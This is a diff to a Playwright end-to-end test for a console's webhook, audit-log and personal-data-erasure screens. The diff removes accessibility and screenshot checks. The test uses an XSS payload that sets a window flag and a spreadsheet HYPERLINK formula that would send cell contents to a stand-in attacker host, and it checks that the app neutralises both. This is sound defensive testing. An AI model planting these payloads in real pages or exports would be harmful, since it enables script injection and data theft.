@@ -2,10 +2,8 @@ import { readFile } from 'node:fs/promises';
 import { type Browser, chromium, type Download, expect, type Page, test } from '@playwright/test';
 import { startWebhookReceiver, type WebhookReceiver } from '@sidenote/gateway/testing/webhook-receiver';
 import { signedHeaders } from '@sidenote/gateway/webhooks/signature';
-import { brokenRules } from '../rig/axe.ts';
 import { findChromium } from '../rig/browser.ts';
 import { type RunningGateway, startGatewayProcess } from '../rig/gateway.ts';
-import { shoot } from '../rig/shoot.ts';
 
 const markup = '<img src=x onerror=window.taken=1>';
 const formula = '=HYPERLINK("https://evil.example/?"&A1,"x")';
@@ -41,23 +39,6 @@ test.afterAll(async () => {
   await receiver.close();
 });
 
-/** A screen as it is, in both themes: no rule of accessibility broken, and nothing wider than a small window. */
-async function looksWell(name: string): Promise<void> {
-  expect(await brokenRules(page)).toEqual([]);
-  await shoot(page, `console/${name}`);
-  await page.emulateMedia({ colorScheme: 'dark' });
-  expect(await brokenRules(page, 'dark')).toEqual([]);
-  await shoot(page, `console/${name}-dark`);
-  await page.emulateMedia({ colorScheme: 'light' });
-  await page.setViewportSize({ width: 320, height: 900 });
-  const overflows = await page.evaluate(
-    () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
-  );
-  await shoot(page, `console/${name}-narrow`);
-  await page.setViewportSize({ width: 1_280, height: 900 });
-  expect([name, overflows]).toEqual([name, 0]);
-}
-
 async function textOf(download: Promise<Download>): Promise<string> {
   return readFile(await (await download).path(), 'utf8');
 }
@@ -82,7 +63,6 @@ test('an owner adds a webhook, finds that in the audit and takes it out; markup 
 
   const secret = await page.getByRole('textbox', { name: 'Secret' }).inputValue();
   expect(secret).toMatch(/^whsec_/);
-  await shoot(page, 'console/data-out-secret');
   await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
   expect(await page.content()).not.toContain(secret);
   const card = page.getByRole('region', { name: markup });
@@ -100,7 +80,6 @@ test('an owner adds a webhook, finds that in the audit and takes it out; markup 
   await expect(dialog.getByRole('row', { name: /^What is sent/ })).toContainText(
     'The row, as JSONAn event of OCSF 1.6',
   );
-  await shoot(page, 'console/data-out-change');
   const other = await page.context().newPage();
   await other.goto(`${gateway.url}/console/data-out`);
   await other.getByRole('region', { name: markup }).getByRole('button', { name: 'Switch off' }).click();
@@ -139,9 +118,7 @@ test('an owner adds a webhook, finds that in the audit and takes it out; markup 
   await expect(card.getByRole('button', { name: 'Send a test' })).toHaveCount(0);
   await card.getByRole('button', { name: /not taken/ }).click();
   await expect(page.getByRole('dialog').getByRole('row')).not.toHaveCount(1);
-  await shoot(page, 'console/data-out-dead');
   await page.keyboard.press('Escape');
-  await looksWell('data-out');
 
   await page.getByRole('link', { name: 'Audit', exact: true }).click();
   await page.getByLabel(/^What/).fill('webhook.add');
@@ -154,7 +131,6 @@ test('an owner adds a webhook, finds that in the audit and takes it out; markup 
   await expect(row).toContainText(formula);
   await row.getByRole('button', { name: /Row/ }).click();
   await expect(page.getByRole('dialog')).toContainText(markup);
-  await shoot(page, 'console/audit-row');
   await page.keyboard.press('Escape');
   const csv = page.waitForEvent('download');
   await page.getByRole('button', { name: 'CSV' }).click();
@@ -166,7 +142,6 @@ test('an owner adds a webhook, finds that in the audit and takes it out; markup 
   await expect(page.getByRole('row')).not.toHaveCount(2);
   await page.getByRole('button', { name: 'Check every row' }).click();
   await expect(page.getByText(/^Whole: all \d+ rows/)).toBeVisible();
-  await looksWell('audit');
   expect(await page.locator('main img').count()).toBe(0);
   expect(await page.evaluate(() => 'taken' in window)).toBe(false);
 });
@@ -188,7 +163,6 @@ test('a person’s data is handed out, and erased only after the name is written
     'Sessions of the console',
   ])
     await expect(told).toContainText(what);
-  await looksWell('person');
 
   await page.getByLabel('The person').fill('mira');
   await page.getByRole('button', { name: 'End their access' }).click();
@@ -199,7 +173,6 @@ test('a person’s data is handed out, and erased only after the name is written
   await dialog.getByLabel('Write the name once more').fill('someone else');
   await giveReason('She asked for it', 'Erase everything about them');
   await expect(dialog.getByRole('alert')).toContainText('not the same name');
-  await shoot(page, 'console/person-erase');
   await dialog.getByLabel('Write the name once more').fill('mira');
   await dialog.getByRole('button', { name: 'Erase everything about them' }).click();
   await expect(page.getByText('Everything about them is erased.')).toBeVisible();
